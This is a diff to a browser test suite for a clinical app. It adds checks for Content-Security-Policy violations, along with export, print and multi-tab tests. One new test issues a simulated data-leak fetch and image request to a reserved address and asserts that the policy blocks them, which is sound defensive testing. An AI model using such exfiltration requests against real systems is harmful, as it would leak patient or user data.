@@ -20,6 +20,10 @@ let context: BrowserContext
 let page: Page
 let profile: string
 const offsiteRequests: string[] = []
+/** Content-Security-Policy violations reported by any page or frame (chromium logs each as a console error). */
+const cspViolations: string[] = []
+/** Requests that failed, with chromium's reason (a request the policy blocked fails with "csp"). */
+const failedRequests = new Map<string, string>()
 
 beforeAll(async () => {
   mkdirSync(ARTIFACTS, { recursive: true })
@@ -37,13 +41,19 @@ beforeAll(async () => {
     args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
     viewport: { width: 1440, height: 900 },
   })
+  // Patient data never leaves the browser: every request of every page and frame must go to the app's own origin.
+  context.on('request', (r) => {
+    if (!r.url().startsWith(baseUrl) && !/^(data|blob|about):/.test(r.url())) offsiteRequests.push(r.url())
+  })
+  context.on('requestfailed', (r) => failedRequests.set(r.url(), r.failure()?.errorText ?? ''))
+  const watch = (p: Page) => p.on('console', (m) => {
+    if (/Content Security Policy/i.test(m.text())) cspViolations.push(m.text())
+  })
+  context.on('page', watch)
   page = context.pages()[0] ?? (await context.newPage())
+  watch(page)
   page.on('pageerror', (e) => {
     throw e
-  })
-  // Patient data never leaves the browser: every request must go to the app's own origin.
-  page.on('request', (r) => {
-    if (!r.url().startsWith(baseUrl) && !/^(data|blob):/.test(r.url())) offsiteRequests.push(r.url())
   })
   await page.goto(baseUrl)
 })
@@ -85,7 +95,8 @@ const cell = (label: string) => page.getByLabel(label, { exact: true })
 const liveResponse = (criterion: string, timepoint: string) => page.locator('.live-results').getByRole('button', { name: new RegExp(`^${criterion} at ${timepoint}: `) }).locator('.resp')
 
 async function expectNoSeriousAxeViolations(screen: string) {
-  await page.addScriptTag({ content: AXE_SOURCE })
+  // Evaluated, not injected as an inline <script>: the app's Content-Security-Policy forbids those.
+  await page.evaluate(AXE_SOURCE)
   const violations = await page.evaluate(async () => {
     const w = window as unknown as { axe: { run: (ctx: Document, opts: object) => Promise<{ violations: { id: string; impact: string; help: string; nodes: { target: string[] }[] }[] }> } }
     const result = await w.axe.run(document, { resultTypes: ['violations'] })
@@ -239,7 +250,73 @@ describe('Caliper in chromium', () => {
     expect(samples).toHaveLength(15)
   })
 
-  it('made no request outside its own origin', () => {
+  it('exports the case, draws and downloads the plots, prints the report and shows the cohort', async () => {
+    const download = async (click: () => Promise<void>) => {
+      const [file] = await Promise.all([page.waitForEvent('download'), click()])
+      return file.suggestedFilename()
+    }
+    // A complete case: the timing test above leaves its case with a problem.
+    await page.getByRole('button', { name: 'Library', exact: true }).click()
+    await page.getByRole('button', { name: /^Open a copy of the example: / }).first().click()
+    expect(await download(() => page.getByRole('button', { name: 'Export JSON' }).click())).toMatch(/\.json$/)
+    await page.getByRole('button', { name: 'Documents', exact: true }).click()
+    const svg = page.getByRole('button', { name: /as SVG$/ })
+    await expect.poll(() => svg.count(), { timeout: 15_000 }).toBeGreaterThan(0)
+    expect(await download(() => svg.first().click())).toMatch(/\.svg$/)
+    expect(await download(() => page.getByRole('button', { name: /as PNG$/ }).first().click())).toMatch(/\.png$/)
+    expect(await download(() => page.getByRole('button', { name: 'Download CSV' }).click())).toMatch(/\.csv$/)
+    expect(await download(() => page.getByRole('button', { name: 'Download report (HTML)' }).click())).toMatch(/\.html$/)
+    await page.getByRole('button', { name: 'Print report' }).click()
+    const report = page.frameLocator('iframe[title="Report for printing"]')
+    await expect.poll(() => report.locator('h1').count()).toBeGreaterThan(0)
+    // The report's own stylesheet applies inside the frame (the policy allows it; nothing else).
+    expect(await report.locator('body').evaluate((b) => getComputedStyle(b).fontFamily)).not.toBe(await page.evaluate(() => getComputedStyle(document.createElement('p')).fontFamily))
+    await page.getByRole('button', { name: 'Cohort', exact: true }).click()
+    await expect.poll(() => page.getByRole('heading', { name: /^Cohort: \d+ patients?$/ }).count()).toBe(1)
+    for (const tab of await page.getByRole('group', { name: 'Plot' }).getByRole('button').all()) await tab.click()
+    await page.getByRole('button', { name: 'Library', exact: true }).click()
+  })
+
+  it('two tabs of one browser see each other’s edits, and neither overwrites the other', async () => {
+    await page.getByRole('button', { name: 'New case' }).click()
+    const other = await context.newPage()
+    await other.goto(baseUrl)
+    const id = (p: Page) => p.getByLabel('Patient ID', { exact: true })
+    const diagnosis = (p: Page) => p.getByLabel('Diagnosis', { exact: true })
+    await id(page).fill('TWO-TABS')
+    await expect.poll(() => id(other).inputValue()).toBe('TWO-TABS')
+    await diagnosis(other).fill('Ewing sarcoma')
+    await expect.poll(() => diagnosis(page).inputValue()).toBe('Ewing sarcoma')
+    await other.reload()
+    expect(await id(other).inputValue()).toBe('TWO-TABS')
+    expect(await diagnosis(other).inputValue()).toBe('Ewing sarcoma')
+    await other.close()
+  })
+
+  it('made no request outside its own origin, and broke no rule of its Content-Security-Policy', () => {
     expect(offsiteRequests).toEqual([])
+    expect(cspViolations).toEqual([])
+  })
+
+  it('has a Content-Security-Policy that blocks any other origin', async () => {
+    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
+    expect(policy).toMatch(/default-src 'self'/)
+    expect(policy).not.toMatch(/script-src[^;]*'unsafe-inline'/)
+    const blocked = await page.evaluate(async () => {
+      const violations: string[] = []
+      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective))
+      const fetched = await fetch('http://192.0.2.1/leak?patient=x').then(() => 'sent', () => 'refused')
+      const image = await new Promise<string>((done) => {
+        const img = new Image()
+        img.onload = () => done('loaded')
+        img.onerror = () => done('refused')
+        img.src = 'http://192.0.2.1/leak.png'
+      })
+      await new Promise((r) => setTimeout(r, 50))
+      return { fetched, image, violations }
+    })
+    expect(blocked).toEqual({ fetched: 'refused', image: 'refused', violations: ['connect-src', 'img-src'] })
+    // Chromium may announce the image before the policy refuses it: it must then have failed, never been sent.
+    for (const url of offsiteRequests) expect([url, failedRequests.get(url)]).toEqual(['http://192.0.2.1/leak.png', 'csp'])
   })
 })
